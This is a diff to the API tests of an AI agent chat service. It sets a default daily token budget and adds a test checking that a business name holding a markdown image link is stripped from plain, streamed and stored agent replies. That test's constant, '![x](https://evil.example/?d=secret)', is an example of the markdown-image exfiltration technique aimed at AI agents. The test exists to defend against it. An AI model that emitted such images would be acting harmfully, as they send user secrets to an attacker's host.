@@ -8,7 +8,7 @@ from typing import Any
 from sqlalchemy import delete, select
 
 from tests.api.conftest import DEVON, MAYA, bearer, count
-from vaultra_mcp.models import AgentMessage, Membership
+from vaultra_mcp.models import AgentMessage, Business, Membership
 
 HURTING = "What's hurting my funding readiness?"
 
@@ -148,7 +148,8 @@ async def test_usage_counts_tokens_per_business_per_day(api, api_deps):
     assert usage["days"][0]["total_tokens"] == body["usage"]["total_tokens"]
     assert usage["days"][0]["messages"] == 2
     assert usage["used_today"] == body["usage"]["total_tokens"]
-    assert usage["daily_token_budget"] is None and usage["remaining_today"] is None
+    assert usage["daily_token_budget"] == 200_000  # the default budget
+    assert usage["remaining_today"] == 200_000 - body["usage"]["total_tokens"]
 
 
 async def test_conversations_in_a_business_the_user_left_are_no_longer_theirs(api, api_deps):
@@ -166,3 +167,33 @@ async def test_conversations_in_a_business_the_user_left_are_no_longer_theirs(ap
 
     assert [c["id"] for c in listed.json()["conversations"]] == [kept["conversation_id"]]
     assert read.status_code == 404
+
+
+EXFILTRATING_NAME = "![x](https://evil.example/?d=secret)"
+
+
+async def test_a_business_name_carrying_a_markdown_image_comes_back_without_one(api, api_deps):
+    async with api_deps.db.transaction() as session:
+        (await session.get(Business, 3)).name = EXFILTRATING_NAME
+
+    plain = (await chat(api, api_deps, DEVON, HURTING)).json()
+    streamed = await api.post(
+        "/api/v1/agent/chat",
+        json={"message": HURTING},
+        headers={**bearer(api_deps, DEVON), "Accept": "text/event-stream"},
+    )
+    async with api_deps.db.sessions() as session:
+        stored = (
+            (
+                await session.execute(
+                    select(AgentMessage.content).where(AgentMessage.role == "assistant")
+                )
+            )
+            .scalars()
+            .all()
+        )
+
+    chunks = "".join(d["text"] for n, d in events_of(streamed.text) if n == "chunk")
+    for text in (plain["answer"], chunks, *stored):
+        assert "(image not shown: x)" in text
+        assert "](https://evil.example" not in text and "![" not in text
